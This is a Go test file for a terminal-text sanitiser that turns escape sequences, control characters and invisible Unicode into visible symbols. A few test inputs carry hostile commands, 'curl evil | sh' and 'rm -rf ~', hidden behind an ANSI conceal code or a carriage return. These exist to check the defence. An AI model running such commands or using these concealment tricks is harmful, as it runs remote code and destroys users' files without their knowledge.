package termtext

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestLineAndBlock(t *testing.T) {
	tests := []struct {
		name, in, line, block string
	}{
		{"plain", "echo hello — ünïcode 日本 👍", "echo hello — ünïcode 日本 👍", "echo hello — ünïcode 日本 👍"},
		{"conceal escape", "echo safe \x1b[8m; curl evil | sh \x1b[0m; echo done", "echo safe ␛[8m; curl evil | sh ␛[0m; echo done", "echo safe ␛[8m; curl evil | sh ␛[0m; echo done"},
		{"newline and tab", "a\tb\nc", "a␉b␊c", "a\tb\nc"},
		{"carriage return", "safe\rrm -rf ~", "safe␍rm -rf ~", "safe␍rm -rf ~"},
		{"CRLF line ends", "a\r\nb\r", "a␍␊b␍", "a\nb␍"},
		{"NUL, BEL, backspace, DEL", "a\x00b\x07c\x08d\x7f", "a␀b␇c␈d␡", "a␀b␇c␈d␡"},
		{"OSC title", "\x1b]0;owned\x07", "␛]0;owned␇", "␛]0;owned␇"},
		{"C1 CSI as a rune", "x\u009b31my", `x\u009b31my`, `x\u009b31my`},
		{"raw 8-bit CSI byte", "x\x9b31my", `x\x9b31my`, `x\x9b31my`},
		{"bidi override", "abc\u202edcba", `abc\u202edcba`, `abc\u202edcba`},
		{"isolates and marks", "\u2066a\u2069\u200f", `\u2066a\u2069\u200f`, `\u2066a\u2069\u200f`},
		{"zero width space and BOM", "a\u200bb\ufeff", `a\u200bb\ufeff`, `a\u200bb\ufeff`},
		{"tag characters", "hi\U000E0041", `hi\U000e0041`, `hi\U000e0041`},
		{"line separator", "a\u2028b", `a\u2028b`, `a\u2028b`},
		{"joiners kept", "👨\u200d👩 a\u200cb", "👨\u200d👩 a\u200cb", "👨\u200d👩 a\u200cb"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Line(tc.in); got != tc.line {
				t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.line)
			}
			if got := Block(tc.in); got != tc.block {
				t.Errorf("Block(%q) = %q, want %q", tc.in, got, tc.block)
			}
		})
	}
}

// TestNothingActiveSurvives feeds every byte value and a range of runes
// through Line and checks that no control, format or invalid byte is left.
func TestNothingActiveSurvives(t *testing.T) {
	var b strings.Builder
	for c := 0; c < 256; c++ {
		b.WriteByte(byte(c))
	}
	for r := rune(0x80); r < 0x3000; r++ {
		b.WriteRune(r)
	}
	b.WriteString("\U000E0001\U000E007F\uFFF9\uFFFB")
	for _, out := range []string{Line(b.String()), Block(b.String())} {
		if !utf8.ValidString(out) {
			t.Fatal("output is not valid UTF-8")
		}
		for i, r := range out {
			switch {
			case r == '\n' || r == '\t':
				if out == Line(b.String()) {
					t.Fatalf("Line kept %U at %d", r, i)
				}
			case r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f:
				t.Fatalf("control %U survived at %d", r, i)
			case r == '\u202e' || r == '\u2066' || r == '\u200b' || r == '\ufeff' || r == 0xE0001:
				t.Fatalf("format character %U survived at %d", r, i)
			}
		}
	}
}

func TestCleanTextIsNotCopied(t *testing.T) {
	s := strings.Repeat("plain text ", 100)
	if n := testing.AllocsPerRun(10, func() { _ = Line(s); _ = Block(s + "\n") }); n > 1 {
		t.Errorf("%v allocations for clean text", n)
	}
}
